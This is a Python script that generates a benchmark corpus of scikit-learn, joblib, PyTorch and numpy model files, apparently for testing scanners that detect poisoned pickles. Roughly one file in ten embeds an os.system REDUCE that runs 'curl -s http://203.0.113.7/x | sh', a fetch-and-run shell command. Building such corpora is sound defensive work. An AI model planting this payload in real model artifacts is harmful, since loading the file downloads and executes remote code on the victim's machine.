#!/usr/bin/env python3
"""Writes the model-artifact benchmark corpus. Standard library only; nothing here is ever unpickled.

  generate.py small DIR [--count 1000]   pickle/joblib-like files as scikit-learn, joblib, torch and numpy write them
  generate.py big FILE [--gib 2]         one PyTorch-style zip checkpoint (stored members, ZIP64), written in chunks

The libraries themselves are not needed: small stand-in modules named like theirs (joblib.numpy_pickle,
numpy, torch, sklearn...) are registered so that pickle writes the same globals, persistent ids and inline
array bytes the real ones write. Files are deterministic for a given count. About one file in ten carries a
malicious REDUCE (os.system) as a model-poisoning attacker would add it; pickling it runs nothing.
"""
import argparse
import collections
import io
import os
import pickle
import random
import struct
import sys
import types
import zipfile
import zlib


def module(name, **members):
    """Registers a stand-in module so pickle can name its members (never imported by anything else)."""
    mod = types.ModuleType(name)
    for key, value in members.items():
        value.__module__ = name
        value.__qualname__ = key
        value.__name__ = key
        setattr(mod, key, value)
    sys.modules[name] = mod
    parent, _, child = name.rpartition(".")
    if parent:
        setattr(sys.modules.get(parent) or module(parent), child, mod)
    return mod


class ndarray:  # numpy.ndarray
    pass


class dtype:  # numpy.dtype, pickled as numpy.dtype(str, False, True) + state, like numpy does
    def __init__(self, code, size):
        self.code, self.size = code, size

    def __reduce__(self):
        return (dtype_class, (self.code, False, True), (3, "<", None, None, None, -1, -1, 0))


class NumpyArrayWrapper:  # joblib.numpy_pickle.NumpyArrayWrapper
    pass


class LogisticRegression:  # sklearn.linear_model._logistic.LogisticRegression
    pass


class StandardScaler:  # sklearn.preprocessing._data.StandardScaler
    pass


class Pipeline:  # sklearn.pipeline.Pipeline
    pass


class FloatStorage:  # torch.FloatStorage
    pass


def _rebuild_tensor_v2(*args):  # torch._utils._rebuild_tensor_v2
    raise RuntimeError("never called")


dtype_class = dtype
module("numpy", ndarray=ndarray, dtype=dtype)
module("joblib.numpy_pickle", NumpyArrayWrapper=NumpyArrayWrapper)
module("sklearn.linear_model._logistic", LogisticRegression=LogisticRegression)
module("sklearn.preprocessing._data", StandardScaler=StandardScaler)
module("sklearn.pipeline", Pipeline=Pipeline)
module("torch", FloatStorage=FloatStorage)
module("torch._utils", _rebuild_tensor_v2=_rebuild_tensor_v2)


class Evil:
    """What a poisoned model carries: a REDUCE of os.system (pickled by name as posix.system; never called here)."""

    def __reduce__(self):
        return (os.system, ("curl -s http://203.0.113.7/x | sh",))


class Array:
    """Raw array bytes to be written inline after a NumpyArrayWrapper, as joblib does."""

    def __init__(self, shape, data, code="f8"):
        self.shape, self.data, self.code = shape, data, code


class JoblibPickler(pickle._Pickler):
    """joblib.numpy_pickle.NumpyPickler in miniature: an array becomes a wrapper, then its bytes, aligned."""

    def __init__(self, file, protocol):
        super().__init__(file, protocol)
        self.out = file

    def save(self, obj, save_persistent_id=True):
        if isinstance(obj, Array):
            wrapper = NumpyArrayWrapper()
            wrapper.__dict__ = {
                "subclass": ndarray, "shape": obj.shape, "order": "C", "dtype": dtype(obj.code, 8),
                "allow_mmap": True, "numpy_array_alignment_bytes": 16,
            }
            super().save(wrapper)
            if self.proto >= 4:
                self.framer.commit_frame(force=True)
            padding = 16 - ((self.out.tell() + 1) % 16)
            self.out.write(bytes([padding]) + b"\xff" * padding)
            self.out.write(obj.data)
            return
        super().save(obj, save_persistent_id)


def estimator(rng, malicious):
    model = LogisticRegression()
    n = rng.randint(4, 64)
    model.__dict__ = {
        "penalty": "l2", "C": 1.0, "max_iter": 100, "classes_": Array((2,), struct.pack("<2q", 0, 1), "i8"),
        "coef_": Array((1, n), struct.pack("<%dd" % n, *[rng.random() for _ in range(n)])),
        "intercept_": Array((1,), struct.pack("<d", rng.random())), "n_features_in_": n, "_sklearn_version": "1.5.2",
    }
    if malicious:
        model.__dict__["_hook"] = Evil()
    scaler = StandardScaler()
    scaler.__dict__ = {"mean_": Array((n,), bytes(8 * n)), "scale_": Array((n,), bytes(8 * n)), "n_samples_seen_": 1000}
    pipeline = Pipeline()
    pipeline.__dict__ = {"steps": [("scale", scaler), ("clf", model)], "memory": None, "verbose": False}
    return pipeline


def joblib_bytes(obj):
    out = io.BytesIO()
    JoblibPickler(out, 4).dump(obj)
    return out.getvalue()


class Storage:
    def __init__(self, key, numel):
        self.key, self.numel = key, numel


class Tensor:
    def __init__(self, storage, shape):
        self.storage, self.shape = storage, shape

    def __reduce_ex__(self, protocol):
        return (_rebuild_tensor_v2, (self.storage, 0, self.shape, (1,), False, collections.OrderedDict()))


class TorchPickler(pickle.Pickler):
    """torch.save's pickler: storages become persistent ids ('storage', type, key, location, numel)."""

    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            return ("storage", FloatStorage, obj.key, "cpu", obj.numel)
        return None


def torch_pickle(tensors, malicious=False):
    state = collections.OrderedDict()
    for name, key, numel in tensors:
        state[name] = Tensor(Storage(key, numel), (numel,))
    if malicious:
        state["_extra"] = Evil()
    out = io.BytesIO()
    TorchPickler(out, protocol=2).dump(state)
    return out.getvalue()


def npy_header(descr, shape):
    text = "{'descr': '%s', 'fortran_order': False, 'shape': %s, }" % (descr, shape)
    pad = (64 - (10 + len(text) + 1) % 64) % 64
    text += " " * pad + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode("latin1")


def small(directory, count):
    rng = random.Random(6)
    os.makedirs(directory, exist_ok=True)
    for i in range(count):
        malicious = (i // 6) % 10 == 3
        kind = i % 6
        if kind == 0:
            name, data = "model_%04d.joblib" % i, joblib_bytes(estimator(rng, malicious))
        elif kind == 1:
            name, data = "model_%04d.joblib" % i, zlib.compress(joblib_bytes(estimator(rng, malicious)), 3)
        elif kind == 2:
            name, data = "model_%04d.pkl" % i, pickle.dumps({"vocab": {"w%d" % k: k for k in range(200)}, "hook": Evil() if malicious else None}, protocol=rng.choice([2, 3, 4, 5]))
        elif kind == 3:
            tensors = [("layer%d.weight" % k, str(k), rng.randint(16, 256)) for k in range(rng.randint(2, 12))]
            buf = io.BytesIO()
            with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
                z.writestr("archive/data.pkl", torch_pickle(tensors, malicious))
                z.writestr("archive/byteorder", "little")
                for _, key, numel in tensors:
                    z.writestr("archive/data/" + key, bytes(4 * numel))
                z.writestr("archive/version", "3\n")
            name, data = "checkpoint_%04d.pt" % i, buf.getvalue()
        elif kind == 4:
            items = pickle.dumps(["label%d" % k for k in range(20)] + ([Evil()] if malicious else []), protocol=3)
            name, data = "labels_%04d.npy" % i, npy_header("|O", "(21,)") + items
        else:
            buf = io.BytesIO()
            with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
                z.writestr("x.npy", npy_header("<f8", "(64,)") + bytes(512))
                z.writestr("y.npy", npy_header("|O", "(3,)") + pickle.dumps(["a", "b", Evil() if malicious else "c"], protocol=3))
            name, data = "data_%04d.npz" % i, buf.getvalue()
        with open(os.path.join(directory, name), "wb") as f:
            f.write(data)
    print("wrote %d files to %s" % (count, directory), file=sys.stderr)


def big(path, gib):
    chunk = 64 * 1024 * 1024
    tensors = 16
    per_tensor = gib * 1024 * 1024 * 1024 // tensors
    entries = [("model.layers.%d.weight" % k, str(k), per_tensor // 4) for k in range(tensors)]
    block = bytes(range(256)) * (chunk // 256)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED, allowZip64=True) as z:
        z.writestr("archive/data.pkl", torch_pickle(entries))
        z.writestr("archive/byteorder", "little")
        for _, key, _ in entries:
            with z.open("archive/data/" + key, "w", force_zip64=True) as member:
                left = per_tensor
                while left > 0:
                    n = min(left, chunk)
                    member.write(block[:n])
                    left -= n
        z.writestr("archive/version", "3\n")
        z.writestr("archive/.data/serialization_id", "1523987430957393478000085791427368417")
    print("wrote %s (%d bytes)" % (path, os.path.getsize(path)), file=sys.stderr)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("what", choices=["small", "big"])
    parser.add_argument("path")
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--gib", type=int, default=2)
    args = parser.parse_args()
    if args.what == "small":
        small(args.path, args.count)
    else:
        big(args.path, args.gib)


if __name__ == "__main__":
    main()
